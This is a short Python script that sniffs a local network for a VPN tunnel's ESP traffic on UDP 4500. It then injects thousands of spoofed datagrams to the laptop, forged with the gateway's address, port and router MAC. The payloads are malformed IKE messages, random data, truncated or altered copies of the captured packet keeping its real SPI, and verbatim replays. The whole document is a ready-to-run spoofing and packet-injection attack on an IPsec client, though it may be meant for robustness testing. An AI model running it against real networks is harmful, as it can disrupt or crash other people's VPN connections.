"""Sends the laptop garbage in the gateway's name: on its LAN, from the gateway's address and port, to
the very port that its tunnel uses, with the MAC of its router.

usage: ike_garbage.py GATEWAY INTERFACE
"""

import os
import random
import socket
import struct
import sys

gateway, interface = sys.argv[1:]
NAT_T = 4500
COUNT = 3000
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind((interface, 0))
wire.settimeout(20)


def udp(frame):
    """Addresses, ports and payload, if it is UDP over IPv4 without options."""
    if len(frame) < 42 or frame[12:14] != b"\x08\x00" or frame[14] != 0x45 or frame[23] != 17:
        return None
    ports = struct.unpack("!HH", frame[34:38])
    return (socket.inet_ntoa(frame[26:30]), ports[0]), (socket.inet_ntoa(frame[30:34]), ports[1]), frame[42:]


def overheard(wanted):
    while True:
        frame = wire.recv(65535)
        found = udp(frame)
        if found and wanted(*found):
            return frame, found


def esp(payload):
    return len(payload) > 32 and payload[:4] != bytes(4)


# One sealed packet each way: who the laptop is, and the gateway's SPI and sequence number.
out, (laptop, _, _) = overheard(lambda source, target, load: target == (gateway, NAT_T) and esp(load))
back, (_, _, sealed) = overheard(lambda source, target, load: source == (gateway, NAT_T) and esp(load))
mac, router = out[6:12], out[0:6]


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(payload):
    length = 28 + len(payload)
    fields = [0x45, 0, length, 0, 0, 64, 17, 0, socket.inet_aton(gateway), socket.inet_aton(laptop[0])]
    fields[7] = checksum(struct.pack("!BBHHHBBH4s4s", *fields))
    ip = struct.pack("!BBHHHBBH4s4s", *fields)
    head = struct.pack("!HHHH", NAT_T, laptop[1], 8 + len(payload), 0)
    wire.send(mac + router + b"\x08\x00" + ip + head + payload)


def ike(exchange, flags, body, length=None):
    length = 28 + len(body) if length is None else length
    ids = os.urandom(8) + random.choice([bytes(8), os.urandom(8)])
    head = ids + struct.pack("!BBBBII", random.randrange(256), 0x20, exchange, flags, random.randrange(4), length)
    return bytes(4) + head + body


kinds = [
    lambda: b"",
    lambda: b"\xff",
    lambda: bytes(4),
    lambda: os.urandom(random.randrange(1, 1400)),
    # IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL, and none of them; requests and answers.
    lambda: ike(random.choice([34, 35, 36, 37, 99]), random.choice([0, 8, 32, 40]), os.urandom(random.randrange(600))),
    lambda: ike(34, 32, os.urandom(40), length=0xFFFFFFFF),
    lambda: ike(37, 0, b"")[: random.randrange(4, 32)],
    # The tunnel's own SPI, with other content; and a replay.
    lambda: sealed[:4] + os.urandom(len(sealed) - 4),
    lambda: sealed[:8] + os.urandom(len(sealed) - 8),
    lambda: sealed[: random.randrange(1, len(sealed))],
    lambda: sealed,
]
for number in range(COUNT):
    send(kinds[number % len(kinds)]())
print(f"{COUNT} datagrams of {len(kinds)} kinds to {laptop[0]}:{laptop[1]}")
